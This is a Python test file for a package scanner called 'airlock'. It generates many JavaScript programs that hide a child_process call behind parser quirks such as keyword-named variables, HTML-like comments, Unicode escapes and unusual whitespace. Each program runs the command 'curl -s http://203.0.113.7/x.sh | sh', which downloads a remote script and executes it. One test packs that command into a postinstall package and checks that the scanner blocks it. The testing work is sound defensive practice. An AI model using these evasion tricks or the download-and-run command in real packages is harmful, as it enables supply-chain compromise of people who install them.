"""Differential test: what Node accepts and runs is what airlock reads (issue 9).

A corpus generated from templates × construct classes: each program uses one construct where Node and
tree-sitter-javascript could disagree (keyword-named identifiers, Annex B syntax, hashbangs, BOMs, escaped
identifiers, Unicode whitespace and line terminators, `with`) and hides a `child_process` use inside it.
`node --check` (parses, never runs) must accept every program, which validates the generated source; airlock
must then report `child_process`, and `child_process.exec` with its command line where the program calls it.
"""

from __future__ import annotations

import subprocess
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import pytest

from airlock.analysis import analyze
from airlock.analysis.capabilities import analyze_source
from airlock.analysis.js import Dialect
from airlock.contents import read_tarball
from airlock.model import Verdict
from airlock.verdict import decide
from tests.conftest import NodeTools
from tests.fakes.tarballs import build_package

CMD = "curl -s http://203.0.113.7/x.sh | sh"
REQ = "require('child_process')"


@dataclass(frozen=True)
class Program:
    construct: str
    name: str
    suffix: str
    source: str
    calls_exec: bool = True
    """False where the capability analysis does not yet fold the command line (see `MODULE_BINDINGS`)."""

    @property
    def id(self) -> str:
        return f"{self.construct}:{self.name}{self.suffix}"


# Words that are keywords only in strict code, in generators or async functions, or contextually.
SLOPPY_WORDS = (
    "yield", "let", "static", "implements", "interface", "package", "private", "protected", "public",
    "await", "async", "of", "get", "set", "using", "target", "from", "as", "meta", "accessor",
)  # fmt: skip
# Binding forms that the capability analysis follows for an ordinary name (`cp`): each is tried with the
# words above in place of that name.
SCRIPT_BINDINGS = (
    ("var", "var W = " + REQ + ";\nW.exec('" + CMD + "');\n"),
    ("global", "W = " + REQ + ";\nW.exec('" + CMD + "');\n"),
    ("destructure", "var { exec: W } = " + REQ + ";\nW('" + CMD + "');\n"),
    ("in-function", "function main() {\n  var W = " + REQ + ";\n  W.exec('" + CMD + "');\n}\nmain();\n"),
)
# Module imports with contextual (not reserved) words as local names.
MODULE_WORDS = ("async", "of", "get", "set", "from", "as", "target", "meta", "using", "accessor")
MODULE_BINDINGS = (
    ("namespace", "import * as W from 'child_process';\nW.exec('" + CMD + "');\n"),
    ("named", "import { exec as W } from 'child_process';\nW('" + CMD + "');\n"),
)
# Whitespace Node accepts between tokens, and line terminators that end a `//` comment.
WHITESPACE = {
    "nbsp": "\u00a0", "bom": "\ufeff", "ogham": "\u1680", "en-quad": "\u2000", "four-per-em": "\u2005",
    "hair": "\u200a", "nnbsp": "\u202f", "mmsp": "\u205f", "ideographic": "\u3000", "vt": "\v", "ff": "\f",
}  # fmt: skip
LINE_TERMINATORS = {"ls": "\u2028", "ps": "\u2029", "cr": "\r"}
USE = "var cp = " + REQ + ";\ncp.exec('" + CMD + "');\n"
USE_MODULE = "import * as cp from 'child_process';\ncp.exec('" + CMD + "');\n"


def corpus() -> list[Program]:
    programs: list[Program] = []
    add = programs.append
    # Keywords as identifiers (scripts): every word × every binding form.
    for word in SLOPPY_WORDS:
        for form, template in SCRIPT_BINDINGS:
            add(Program("keyword-identifier", f"{word}-{form}", ".js", template.replace("W", word)))
    # `undefined` can be bound in a function scope (and is, in old libraries' IIFEs).
    add(
        Program(
            "keyword-identifier",
            "undefined-param",
            ".js",
            "(function (undefined) {\n  undefined = " + REQ + ";\n  undefined.exec('" + CMD + "');\n})();\n",
        )
    )
    add(
        Program(
            "keyword-identifier",
            "undefined-var",
            ".cjs",
            "function main() {\n  var undefined = "
            + REQ
            + ";\n  undefined.exec('"
            + CMD
            + "');\n}\nmain();\n",
        )
    )
    # Labels named by those words, around the use.
    for word in ("yield", "await", "let", "async", "static", "using"):
        add(Program("keyword-label", word, ".js", f"{word}: {{\n" + USE + f"  break {word};\n}}\n"))
    # ... and in ES modules (strict, so only the contextual words).
    for word in MODULE_WORDS:
        for form, template in MODULE_BINDINGS:
            add(
                Program(
                    "module-contextual-word",
                    f"{word}-{form}",
                    ".mjs",
                    template.replace("W", word),
                )
            )
    # Annex B: HTML-like comments, with text inside that would derail a parser reading it as code.
    add(Program("html-open-comment", "line-start", ".js", "<!-- ' ( { [ `\n" + USE))
    add(Program("html-open-comment", "after-code", ".js", "var a = 1 <!-- ' ) } `\n" + USE))
    add(Program("html-open-comment", "hides-template-opener", ".js", "var a = 1; <!-- `\n" + USE + "// `\n"))
    add(Program("html-open-comment", "same-line-code", ".cjs", "var a = 1, b = 2; a <!-- b ' \n" + USE))
    add(Program("html-close-comment", "line-start", ".js", "var a = 1;\n--> ' ) }\n" + USE))
    add(Program("html-close-comment", "after-block-comment", ".js", "var a = 1;\n/*\n*/ --> ' ) }\n" + USE))
    add(Program("html-close-comment", "after-comment", ".js", "var a = 1\n/* c */ --> ' ( `\n" + USE))
    add(Program("html-close-comment", "after-nbsp", ".js", "var a = 1;\n\u00a0 --> ' ) }\n" + USE))
    add(Program("html-close-comment", "after-ls", ".js", "var a = 1;\u2028--> ' ) }\n" + USE))
    # Annex B: legacy octal literals and escapes (in the specifier and in the command).
    add(Program("legacy-octal", "literal", ".js", "var mode = 0755, n = 09;\n" + USE))
    add(
        Program(
            "legacy-octal",
            "escape-specifier",
            ".js",
            "var cp = require('\\143hild_process');\ncp.exec('" + CMD + "');\n",
        )
    )
    add(
        Program(
            "legacy-octal",
            "escape-command",
            ".js",
            "var cp = " + REQ + ";\ncp.exec('\\143url -s http://203.0.113.7/x.sh | sh');\n",
        )
    )
    add(Program("legacy-octal", "non-octal-decimal-escape", ".js", "var s = '\\8\\9';\n" + USE))
    # Annex B: function declarations in blocks, in if-statements, labelled functions; for-in initialisers.
    add(Program("block-function", "if", ".js", "if (true) function run() {\n" + USE + "}\nrun();\n"))
    add(
        Program(
            "block-function", "if-else", ".js", "if (false) ; else function run() {\n" + USE + "}\nrun();\n"
        )
    )
    add(Program("block-function", "block", ".js", "{\n  function run() {\n" + USE + "  }\n}\nrun();\n"))
    add(Program("block-function", "labelled", ".js", "here: function run() {\n" + USE + "}\nrun();\n"))
    add(
        Program(
            "block-function",
            "for-in-initialiser",
            ".js",
            "for (var cp = " + REQ + " in {}) ;\ncp.exec('" + CMD + "');\n",
        )
    )
    # Hashbangs and byte-order marks.
    add(Program("hashbang", "script", ".js", "#!/usr/bin/env node\n" + USE))
    add(Program("hashbang", "module", ".mjs", "#!/usr/bin/env node\n" + USE_MODULE))
    add(Program("bom", "script", ".js", "\ufeff" + USE))
    add(Program("bom", "module", ".mjs", "\ufeff" + USE_MODULE))
    # Unicode escapes in identifiers.
    add(
        Program(
            "escaped-identifier",
            "require-u4",
            ".js",
            "var cp = \\u0072equire('child_process');\ncp.exec('" + CMD + "');\n",
        )
    )
    add(
        Program(
            "escaped-identifier",
            "require-u-brace",
            ".js",
            "var cp = req\\u{75}ire('child_process');\ncp.exec('" + CMD + "');\n",
        )
    )
    add(
        Program(
            "escaped-identifier", "binding", ".js", "var \\u0063p = " + REQ + ";\ncp.exec('" + CMD + "');\n"
        )
    )
    add(
        Program(
            "escaped-identifier",
            "member",
            ".js",
            "var cp = " + REQ + ";\ncp.\\u0065x\\u{65}c('" + CMD + "');\n",
        )
    )
    add(
        Program(
            "escaped-identifier",
            "keyword-word",
            ".js",
            "var yi\\u0065ld = " + REQ + ";\nyield.exec('" + CMD + "');\n",
        )
    )
    add(
        Program(
            "escaped-identifier",
            "module-named",
            ".mjs",
            "import { ex\\u0065c } from 'child_process';\nexec('" + CMD + "');\n",
        )
    )
    add(
        Program(
            "escaped-identifier",
            "module-member",
            ".mjs",
            "import * as cp from 'child_process';\ncp.\\u{65}xec('" + CMD + "');\n",
        )
    )
    # Unicode whitespace between tokens, and line terminators ending comments.
    for name, ws in WHITESPACE.items():
        spaced = f"var{ws}cp{ws}={ws}{REQ};{ws}\ncp.exec({ws}'{CMD}');\n"
        add(Program("unicode-whitespace", name, ".js", spaced))
    for name, ws in list(WHITESPACE.items())[:4]:
        add(
            Program(
                "unicode-whitespace",
                name,
                ".mjs",
                f"import{ws}*{ws}as{ws}cp{ws}from{ws}'child_process';\ncp.exec('{CMD}');\n",
            )
        )
    for name, lt in LINE_TERMINATORS.items():
        add(Program("line-terminator", f"line-comment-{name}", ".js", f"// note{lt}" + USE))
        add(Program("line-terminator", f"html-comment-{name}", ".js", f"<!-- note{lt}" + USE))
        add(Program("line-terminator", f"module-{name}", ".mjs", f"// note{lt}" + USE_MODULE))
    # `with`: names inside resolve against the object, which the capability analysis does not model;
    # the lexical fallback still reports the call and the command.
    add(Program("with-statement", "exec", ".js", "with (" + REQ + ") {\n  exec('" + CMD + "');\n}\n"))
    return programs  # fmt: skip


CORPUS = corpus()


def test_corpus_covers_every_construct_class() -> None:
    classes = {p.construct for p in CORPUS}
    assert len(CORPUS) >= 40
    assert {
        "keyword-identifier", "keyword-label", "module-contextual-word", "html-open-comment",
        "html-close-comment", "legacy-octal", "block-function", "hashbang", "bom", "escaped-identifier",
        "unicode-whitespace", "line-terminator", "with-statement",
    } <= classes  # fmt: skip
    assert {p.suffix for p in CORPUS} == {".js", ".cjs", ".mjs"}


@pytest.mark.requires_node
def test_node_accepts_the_corpus(tmp_path: Path, node: NodeTools) -> None:
    """Each generated program is one Node accepts (`node --check` parses without running anything)."""

    def check(index: int) -> str | None:
        program = CORPUS[index]
        path = tmp_path / f"p{index}{program.suffix}"
        path.write_bytes(program.source.encode())
        done = subprocess.run(
            [node.node, "--check", str(path)], check=False, capture_output=True, text=True, timeout=60
        )
        return None if done.returncode == 0 else f"{program.id}: {done.stderr.strip().splitlines()[-3:]}"

    with ThreadPoolExecutor(max_workers=4) as pool:
        rejected = [r for r in pool.map(check, range(len(CORPUS))) if r is not None]
    assert rejected == []


@pytest.mark.parametrize("program", CORPUS, ids=lambda p: p.id)
def test_airlock_reads_what_node_runs(program: Program) -> None:
    path = f"lib/x{program.suffix}"
    result = analyze_source(path, program.source.encode(), Dialect.JAVASCRIPT)
    keys = set(result.builtin)
    assert any(key.startswith("child_process") for key in keys), (program.id, keys)
    if program.calls_exec:
        assert "child_process.exec" in keys, (program.id, keys)
        assert any("curl" in command and "| sh" in command for _, command in result.commands), (
            program.id,
            result.commands,
        )


def test_yield_install_script_is_blocked() -> None:
    source = "var yield = require('child_process'); yield.exec('curl -s http://203.0.113.7/x.sh | sh')\n"
    tarball = build_package(
        "yield-dropper", "1.0.0", {"install.js": source}, scripts={"postinstall": "node install.js"}
    )
    analysis = analyze(read_tarball(tarball, subject="yield-dropper@1.0.0"))
    assert "child_process.exec" in analysis.capabilities.builtin
    assert decide(analysis.findings) is Verdict.BLOCK
